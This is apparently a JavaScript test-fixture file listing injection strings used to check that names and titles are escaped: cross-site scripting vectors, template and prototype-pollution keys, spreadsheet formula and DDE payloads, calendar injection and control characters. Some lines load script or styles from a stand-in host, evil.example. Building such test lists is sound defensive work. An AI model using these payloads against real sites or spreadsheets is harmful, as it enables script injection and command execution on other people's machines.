// Texts that do harm where they are taken for anything but text. Each calls `ran`, or asks for
// something of another origin, wherever it comes to run.

/** Texts by what they are. Those of up to 80 letters fit whole into the name of a draft. */
export const PAYLOADS = Object.entries({
  "a script": "<script>ran()</script>",
  "a script of another origin": "<script src=https://evil.example/x.js></script>",
  "a script in capitals with a slash": "<SCRIPT/x>ran()</SCRIPT/x>",
  "a script within a script": "<scr<script>ipt>ran()</scr</script>ipt>",
  "an image": "<img src=x onerror=ran()>",
  "an image in quotation marks": '"><img src="x" onerror="ran()">',
  "an image in apostrophes": "'><img src='x' onerror='ran()'>",
  "an image in backticks": "`><img src=`x` onerror=`ran()`>",
  "a handler behind a quotation mark": '" autofocus onfocus="ran()" x="',
  "a handler behind an apostrophe": "' autofocus onfocus='ran()' x='",
  "a handler without quotation marks": "x autofocus onfocus=ran() tabindex=1",
  "a drawing": "<svg onload=ran()>",
  "a drawing with a slash": "<svg/onload=ran()//",
  "a drawing with a link": "<svg><a xlink:href=javascript:ran()><text>x</text></a></svg>",
  "a drawing that moves": "<svg><animate onbegin=ran() attributeName=x dur=1s>",
  "an address of a script": "javascript:ran()",
  "an address of a script in pieces": "jAvAsCrIpT&colon;ran()//%0aran()",
  "a link to a script": "<a href=javascript:ran() autofocus>x</a>",
  "an address with a page in it": "data:text/html,<script>parent.ran()</script>",
  "a frame": "<iframe srcdoc='<script>parent.ran()</script>'></iframe>",
  "a frame with a script": "<iframe src=javascript:parent.ran()>",
  "an object": "<object data=data:text/html,<script>parent.ran()</script>>",
  "a style": "<style>@import 'https://evil.example/x.css';</style>",
  "a style in an attribute": '" style="background:url(https://evil.example/x.png)',
  "a base": "<base href=https://evil.example/>",
  "a turn elsewhere": "<meta http-equiv=refresh content=0;url=javascript:ran()>",
  "a form": "<form action=javascript:ran()><button autofocus>x</button></form>",
  "the end of a text field": "</textarea><img src=x onerror=ran()>",
  "the end of a title": "</title></style></noscript><img src=x onerror=ran()>",
  "an open comment": "<!--><img src=x onerror=ran()>-->",
  "character data": "<![CDATA[><img src=x onerror=ran()>]]>",
  "a mutation in noscript": '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  "a mutation in math": "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
  "a mutation in svg": '<svg></p><style><a id="</style><img src=x onerror=ran()>">',
  "a template": "{{constructor.constructor('ran()')()}}",
  "a template of another kind": "${ran()} #{ran()} <%= ran() %> [[ran()]]",
  "references to characters": "&lt;img src=x onerror=ran()&gt; &#60;script&#62;",
  "escapes": "\\u003cimg src=x onerror=ran()\\u003e \\x3cb\\x3e %3Cscript%3E",
  "escapes of nothing": "x\\0y%00z\\u0000&#0;",
  "an end of a text in a script": "\\');ran();//\\\");ran();//",
  "ends of lines": "a\u2028b\u2029c",
  "letters that turn the line round": "\u202E\u2067gpj.exe\u2066 (nar)\u202B",
  "letters that are not seen": "\u200Ba\u200Db\uFEFFc\u00ADd\u2060",
  "marks above marks": `Z${"\u0351\u0302\u0321".repeat(20)}`,
  "a family and a flag": "👨‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿",
  "a polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror=ran() )//</stYle/--!><svg/oNloAd=ran()",
  "a name of all objects": "__proto__",
  "a name of a maker": "constructor.prototype",
  "a formula": "=HYPERLINK(\"https://evil.example/\",\"x\")",
  "a formula with a plus": "+1+cmd|'/c calc'!A1",
  "a formula with a minus": "-2+3+cmd|'/c calc'!A1",
  "a formula with an at": "@SUM(1+1)*cmd|'/c calc'!A1",
  "a formula behind a space": " \u00A0=1+1",
  "a wide formula": "＝1+1",
  "a line for a table": '",=1+1,"',
  "a line for a calendar": "x\\nEND:VEVENT\\nATTACH:https://evil.example/",
  "one word without end": "W".repeat(80),
}).map(([what, text]) => ({ what, text }));

/** Texts with letters that steer a machine, which no name and no title may have. */
export const STEERING = Object.entries({
  "ends of lines": "x\r\nEND:VEVENT\r\nBEGIN:VALARM\r\n=1+1",
  "letters of nothing": "a\0b\u0001c\u007Fd\u0085e",
  "a tabulator": "\t=1+1",
  "a terminal": "\u001B[31mred\u001B]0;x\u0007",
}).map(([what, text]) => ({ what, text }));

/** A text that is far longer than anything takes. */
export const LONG = `<img src=x onerror=ran()>${"long ".repeat(40_000)}`;

/** How many letters of a name are kept, and which. */
export function asName(text) {
  const kept = [...text].filter((letter) => !/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u.test(letter));
  return kept.slice(0, 80).join("");
}
